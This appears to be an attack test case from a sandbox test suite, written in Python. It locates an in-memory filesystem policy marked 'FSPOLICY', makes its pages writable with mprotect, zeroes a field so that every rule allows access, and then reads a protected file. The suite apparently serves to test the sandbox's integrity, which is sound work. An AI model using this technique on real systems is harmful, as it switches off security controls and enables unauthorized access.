# class: switch_off
# rule: guard_integrity
# also: native_code
# success: the policy's pages are made writable, and every rule set to allow
# proof: read
import ctypes

from attack import FILE, attempt, libc


@attempt
def steal():
    c = libc()
    with open("/proc/self/maps") as maps:
        lines = maps.read().splitlines()
    for line in lines:
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if "r--" not in line or high - low > 1 << 20 or "[v" in line:
            continue
        if ctypes.string_at(low, 8) == b"FSPOLICY":
            if c.mprotect(ctypes.c_void_p(low), ctypes.c_size_t(high - low), 3) == 0:
                ctypes.memset(low + 40, 0, 8)
                break
    else:
        c.mprotect(None, ctypes.c_size_t(0), 0)
    return open(FILE).read()
